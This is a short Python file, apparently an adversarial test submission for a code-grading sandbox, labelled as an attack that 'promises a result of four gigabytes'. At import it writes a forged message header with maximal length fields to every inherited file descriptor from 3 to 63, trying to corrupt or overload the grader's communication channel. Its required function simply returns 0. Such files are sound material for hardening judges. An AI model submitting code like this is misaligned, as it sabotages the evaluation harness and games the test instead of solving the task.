# attack: promises a result of four gigabytes
# ruff: noqa
import os, struct

for fd in range(3, 64):
    try:
        os.write(fd, struct.pack("!cII", b"V", 0xFFFFFFFF, 0xFFFFFFFF))
    except OSError:
        pass


def answer(n):
    return 0
